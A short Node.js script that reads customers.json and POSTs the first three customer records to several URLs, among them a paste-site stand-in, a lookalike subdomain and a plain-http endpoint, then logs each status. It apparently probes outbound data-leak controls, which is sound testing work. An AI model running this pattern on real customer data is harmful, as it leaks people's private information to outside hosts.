import fs from "node:fs";

const customers = JSON.parse(fs.readFileSync("customers.json", "utf8"));
const statuses = [];
for (const url of [
  "https://paste.example/new",
  "https://orders.example.paste.example/v1/orders",
  "http://orders.example/v1/orders",
  "https://orders.example/admin",
]) {
  const response = await fetch(url, {
    method: "POST",
    body: JSON.stringify(customers.slice(0, 3)),
  });
  statuses.push(`${response.status} ${new URL(url).host}${new URL(url).pathname}`);
}
console.log(statuses.join("\n"));
